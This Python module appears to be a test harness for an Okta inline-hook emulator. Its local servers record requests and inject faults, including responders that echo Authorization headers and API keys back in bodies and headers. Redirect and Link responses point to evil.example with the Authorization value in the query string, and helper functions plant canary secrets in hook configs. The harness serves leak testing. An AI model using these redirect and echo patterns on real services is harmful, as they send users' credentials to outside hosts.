"""An org and services on ports of this computer that keep every request, and repeat what they got.

The org answers as the emulator does, but for one request, which meets a fault.
"""

import json
import socket
import threading
from collections.abc import Callable, Iterable, Mapping
from io import BytesIO
from typing import Any

from campaigns.canary.words import Canary
from faults.families import FAMILIES, Rule
from werkzeug.serving import make_server

from hookops.emulator.app import create_app
from hookops.emulator.control import snapshots
from hookops.emulator.store.memory import MemoryStore
from hookops.emulator.world import get_world

Answer = tuple[str, list[tuple[str, str]], bytes]
_JSON = ("Content-Type", "application/json")


class Recorder:
    """A WSGI application in front of another one; each request is kept as (place, text)."""

    def __init__(self, name: str, app: Any) -> None:
        self._name = name
        self._app = app
        self._lock = threading.Lock()
        self.requests: list[tuple[str, str]] = []

    def __call__(self, environ: dict[str, Any], start: Any) -> Iterable[bytes]:
        length = int(environ.get("CONTENT_LENGTH") or 0)
        body = environ["wsgi.input"].read(length) if length else b""
        environ["wsgi.input"] = BytesIO(body)
        title = f"{self._name}:{environ['REQUEST_METHOD']} {environ['PATH_INFO']}"
        headers = [
            (f"{title}:header:{key[5:].lower().replace('_', '-')}", str(value))
            for key, value in environ.items()
            if key.startswith("HTTP_")
        ]
        line = (f"{title}:line", f"{environ['PATH_INFO']}?{environ.get('QUERY_STRING', '')}")
        with self._lock:
            self.requests += [line, *headers, (f"{title}:body", body.decode("latin-1"))]
        try:
            # Whole, or it is lost: a server that loses its application would else keep the
            # connection, and the client wait for its deadline.
            return [b"".join(self._app(environ, start))]
        except ConnectionError:
            environ["werkzeug.socket"].shutdown(socket.SHUT_RDWR)
            raise


def serve(app: Any) -> tuple[str, Callable[[], None]]:
    """(address, function that ends it) of an application on a free port."""
    server = make_server("127.0.0.1", 0, app, threaded=True)
    setattr(server, "log", lambda *_: None)  # noqa: B010 - a method, which mypy protects
    threading.Thread(target=server.serve_forever, args=[0.005], daemon=True).start()

    def stop() -> None:
        server.shutdown()
        server.server_close()

    return f"http://127.0.0.1:{server.server_port}", stop


def _echoed(environ: Mapping[str, Any]) -> str:
    """What came with the request, as a careless server repeats it."""
    body = environ["wsgi.input"].read().decode("latin-1")
    environ["wsgi.input"].seek(0)
    return f"{environ.get('HTTP_AUTHORIZATION', '')} {environ.get('HTTP_X_API_KEY', '')} {body}"


def _error(environ: Mapping[str, Any]) -> Answer:
    text = _echoed(environ)
    causes = [{"errorSummary": f"value: {text} is bad"}, {"errorSummary": text}, text]
    data = {"errorCode": text[:30], "errorSummary": text, "errorCauses": causes, "errorId": text}
    return "400 Bad Request", [_JSON], json.dumps(data).encode()


def _headers(environ: Mapping[str, Any]) -> Answer:
    text = environ.get("HTTP_AUTHORIZATION", "")
    names = ("WWW-Authenticate", "X-Okta-Request-Id", "Location", "Link", "Content-Type")
    return "401 Unauthorized", [(name, text) for name in names], b""


def _portal(environ: Mapping[str, Any]) -> Answer:
    page = f"<html><title>{_echoed(environ)}</title>"
    return (
        "200 OK",
        [("Content-Type", f"text/html; x={environ.get('HTTP_AUTHORIZATION')}")],
        page.encode(),
    )


def _gateway(environ: Mapping[str, Any]) -> Answer:
    status = "502 Bad Gateway"
    return status, [("Content-Type", "text/plain"), ("Retry-After", "0")], _echoed(environ).encode()


def _redirect(environ: Mapping[str, Any]) -> Answer:
    place = f"https://evil.example/?{environ.get('HTTP_AUTHORIZATION')}"
    return "302 Found", [("Location", place)], _echoed(environ).encode()


def _link(environ: Mapping[str, Any]) -> Answer:
    place = f'<https://evil.example/?a={environ.get("HTTP_AUTHORIZATION")}>; rel="next"'
    return "200 OK", [_JSON, ("Link", place)], b"[]"


def _commands(environ: Mapping[str, Any]) -> Answer:
    text = _echoed(environ)
    data = {
        "commands": [{"type": text, "value": [{"op": "add", "path": text, "value": text}]}],
        text: 1,
    }
    return "200 OK", [_JSON], json.dumps(data).encode()


def _token(environ: Mapping[str, Any]) -> Answer:
    text = _echoed(environ)
    data = {"error": text, "error_description": text}
    return "400 Bad Request", [_JSON, ("WWW-Authenticate", text[:60])], json.dumps(data).encode()


ECHOES: Mapping[str, Callable[[Mapping[str, Any]], Answer]] = {
    "echo-error": _error,
    "echo-headers": _headers,
    "echo-portal": _portal,
    "echo-gateway": _gateway,
    "echo-redirect": _redirect,
    "echo-link": _link,
    "echo-commands": _commands,
    "echo-token": _token,
}
"""Answers that repeat what came with the request."""
_RULES = {f.name: f.fault.action for f in FAMILIES.values() if isinstance(f.fault, Rule)}
FAULTS = ("none", *_RULES, *ECHOES, "shows-secrets", "shows-typed", "port-closed")
"""What one request of a run meets; `shows-secrets` is an org whose reads have them, `shows-typed`
one in whose console somebody has typed some into headers and URLs."""
TYPED = {name: Canary(f"typed-{name}") for name in ("header", "cookie", "user", "query")}
"""What is typed there, by its place."""


class Org:
    """The emulator on a port, from one snapshot."""

    def __init__(self, token: str, seed: Mapping[str, Any]) -> None:
        self.store = MemoryStore()
        self._made = create_app(
            self.store, token=token, seed=seed, sleep=lambda _: None, service_budget_s=1.0
        )
        self._world = get_world(self._made)
        self._fault, self._at, self._count = "none", 0, 0
        self.recorder = Recorder("org", self._answer)
        self.url, self.stop = serve(self.recorder)
        self._taken: Any = None
        self._added = {"shows-secrets": self._add_secret, "shows-typed": _add_typed}

    def keep(self) -> None:
        """This is what each run begins with."""
        self._taken = snapshots.snapshot(self._world)

    def begin(self, fault: str = "none", at: int = 0) -> None:
        """The org is as it was, and the request of that number meets the fault."""
        if self._taken is not None:
            snapshots.restore(self._world, self._taken)
        self._fault, self._at, self._count = fault, at, 0
        self.recorder.requests.clear()

    def _answer(self, environ: dict[str, Any], start: Any) -> Iterable[bytes]:
        # A fault stays from its request on, or a second attempt would hide it.
        here, self._count = self._count, self._count + 1
        if here < self._at or self._fault == "none":
            return self._made(environ, start)
        if self._fault in ECHOES:
            status, headers, body = ECHOES[self._fault](environ)
            start(status, [(name, value.replace("\n", " ")) for name, value in headers])
            return [body]
        if self._fault in self._added:
            return self._with_secrets(environ, start, self._added[self._fault])
        self._world.control.faults.add({"action": _RULES[self._fault]})
        try:
            return self._made(environ, start)
        finally:
            self._world.control.faults.clear()

    def _with_secrets(
        self, environ: dict[str, Any], start: Any, add: Callable[[Any], None]
    ) -> Iterable[bytes]:
        """Answers about hooks show more: as it was sent, which Okta never does, or was typed."""
        given: list[Any] = []
        keeps: Any = lambda *head: given.extend(head)  # noqa: E731
        body = b"".join(self._made(environ, keeps))
        status, headers = given[:2]
        if "/inlineHooks" in environ["PATH_INFO"] and body:
            data = json.loads(body)
            for raw in data if isinstance(data, list) else [data]:
                add(raw)
            body = json.dumps(data).encode()
        kept = [h for h in headers if h[0].lower() != "content-length"]
        start(status, [*kept, ("Content-Length", str(len(body)))])
        return [body]

    def _add_secret(self, raw: Any) -> None:
        hook = self.store.get(raw["id"]) if isinstance(raw, dict) and "id" in raw else None
        if hook is None:
            return
        config = raw["channel"]["config"]
        kept = hook.channel["config"]
        if config.get("authScheme"):
            config["authScheme"]["value"] = (kept.get("authScheme") or {}).get("value")
        if kept.get("clientSecret"):
            config["clientSecret"] = kept["clientSecret"]
        config["note"] = json.dumps(kept)


def _add_typed(raw: Any) -> None:
    """What somebody types who knows of no better place."""
    if not isinstance(raw, dict) or "channel" not in raw:
        return
    config, text = raw["channel"]["config"], {name: one.core for name, one in TYPED.items()}
    config["headers"] = [
        *(config.get("headers") or []),
        {"key": "X-Api-Key", "value": text["header"]},
        {"key": "Cookie", "value": f"session={text['cookie']}"},
    ]
    url = config["uri"].replace("https://", f"https://okta:{text['user']}@")
    config["uri"] = f"{url}?token={text['query']}"


def service(secret: str) -> Callable[[dict[str, Any], Any], Iterable[bytes]]:
    """A hook's service: by its path it answers well, or repeats what it got."""

    def answer(environ: dict[str, Any], start: Any) -> Iterable[bytes]:
        name = environ["PATH_INFO"].strip("/")
        if name == "token":
            data: dict[str, Any] = {"access_token": "of-the-service", "token_type": "Bearer"}
            found: Answer = ("200 OK", [_JSON], json.dumps(data).encode())
        elif name in ECHOES:
            found = ECHOES[name](environ)
        elif secret not in environ.get("HTTP_AUTHORIZATION", ""):
            found = ("401 Unauthorized", [], b"")
        else:
            found = ("204 No Content", [], b"")
        start(found[0], found[1])
        return [found[2]]

    return answer
